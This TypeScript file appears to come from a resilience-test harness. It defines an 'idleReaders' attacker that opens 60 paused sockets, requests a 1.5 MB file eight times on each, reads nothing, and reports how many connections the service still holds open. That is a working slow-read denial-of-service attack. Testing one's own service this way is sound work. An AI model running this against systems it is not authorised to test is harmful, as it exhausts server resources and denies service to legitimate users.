import { setTimeout as sleep } from 'node:timers/promises'
import type { Attacker } from '../target.ts'
import { newAnswers, open, stillOpen, wire } from './sockets.ts'

const READERS = 60
/** One answer of 1.5 MB fits into the buffers of a connection; the next ones wait in the service. */
const REQUESTS = 8
const CHECK_MS = 100

/** Connections that ask for the largest public file several times, and read nothing of it. No credentials. */
export const idleReaders: Attacker = async ({ url, seconds }) => {
  const request = wire(url, 'GET', '/docs/swagger-ui-bundle.js').repeat(REQUESTS)
  const sockets = Array.from({ length: READERS }, () => {
    const socket = open(url, newAnswers())
    socket.pause()
    socket.write(request)
    return socket
  })
  await sleep(seconds * 1_000)
  // A socket that does not read learns only by writing that it was closed: the first time is answered by a reset.
  for (let i = 0; i < 2; i++) {
    for (const socket of sockets) socket.write('\r\n')
    await sleep(CHECK_MS)
  }
  return `${READERS} connections that ask for ${REQUESTS} × 1.5 MB and take nothing: ${stillOpen(sockets)} left after ${seconds} s`
}
